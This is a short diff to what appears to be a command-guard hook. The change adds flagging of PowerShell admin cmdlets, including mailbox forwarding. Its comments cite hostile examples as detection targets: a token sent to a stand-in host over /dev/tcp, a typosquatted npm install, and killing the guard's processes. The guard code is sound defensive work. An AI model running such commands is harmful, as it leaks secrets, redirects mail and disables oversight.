@@ -46,6 +46,7 @@ from amplifier_hooks.guard.passwordpipes import PRINTERS as TOKEN_PRINTERS
 from amplifier_hooks.guard.passwordpipes import mark_password_pipes
 from amplifier_hooks.guard.platforms import TABLE as PLATFORMS
 from amplifier_hooks.guard.platforms import mark_platforms
+from amplifier_hooks.guard.psadmin import ADMIN_CMDLETS, mark_admin_cmdlets
 from amplifier_hooks.guard.publicprints import PROGRAMS as PUBLIC_PRINTERS
 from amplifier_hooks.guard.publicprints import mark_public_prints
 from amplifier_hooks.guard.remotecopies import COPIERS, mark_remote_copies
@@ -162,6 +163,8 @@ def marked(pieces: tuple[Piece, ...], command: str, places: Places) -> tuple[Pie
         pieces = mark_installs(pieces)  # `npm i lodahs`, `npm i -w pkgs/web ./pkgs/x`
     if not programs.isdisjoint(SIGNALLERS):
         pieces = mark_guard_pids(command, pieces)  # `... amplifier-hooks ... | xargs kill`
+    if any(p in ADMIN_CMDLETS for p in programs):
+        pieces = mark_admin_cmdlets(pieces)  # `Set-ADUser`, `Set-Mailbox -ForwardingSmtpAddress`
     if names_socket(command):
         pieces = mark_secret_sockets(pieces)  # `cat < /dev/tcp/$TOKEN.example.com/80`
     return mark_own_package(command, pieces)
